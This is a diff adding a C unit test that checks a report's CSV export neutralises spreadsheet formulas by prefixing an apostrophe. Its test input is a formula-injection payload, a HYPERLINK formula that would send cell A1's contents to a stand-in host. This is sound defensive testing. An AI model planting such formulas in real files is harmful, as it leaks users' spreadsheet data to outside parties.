@@ -316,6 +316,39 @@ test_render(void **state)
 	report_clear(&r);
 }
 
+/*
+ * The report's CSV (deadlinectl and the mailed attachment) neutralises a
+ * unit name a spreadsheet would run as a formula.
+ */
+static void
+test_render_csv_formula(void **state)
+{
+	struct report		r;
+	struct report_row	rows[1];
+	char			*csv;
+
+	memset(&r, 0, sizeof r);
+	memset(rows, 0, sizeof rows);
+	rows[0].unit = xstrdup("evil");
+	rows[0].name = xstrdup("=HYPERLINK(\"http://x.invalid/?\"&A1,"
+	    "\"Phòng\")");
+	rows[0].late_avg10 = rows[0].rate10 = -1;
+	r.rows = rows;
+	r.n = 1;
+	r.total.unit = xstrdup("TOTAL");
+	r.total.name = xstrdup("-");
+	r.total.late_avg10 = r.total.rate10 = -1;
+	csv = report_render_csv(&r);
+	assert_non_null(strstr(csv, "\r\nevil,\"'=HYPERLINK(\"\"http://"
+	    "x.invalid/?\"\"&A1,\"\"Phòng\"\")\",0,0,0,0,,0,0,0,0,,0\r\n"
+	    "TOTAL,'-,0,"));
+	free(csv);
+	free(rows[0].unit);
+	free(rows[0].name);
+	free(r.total.unit);
+	free(r.total.name);
+}
+
 /* Counts outbox rows with a given key. */
 static int
 count_key(const struct store_outbox *m, void *arg)
@@ -382,6 +415,7 @@ main(void)
 		cmocka_unit_test(test_periods),
 		cmocka_unit_test_setup_teardown(test_figures, setup, teardown),
 		cmocka_unit_test_setup_teardown(test_render, setup, teardown),
+		cmocka_unit_test(test_render_csv_formula),
 		cmocka_unit_test_setup_teardown(test_queue, setup, teardown),
 	};
 
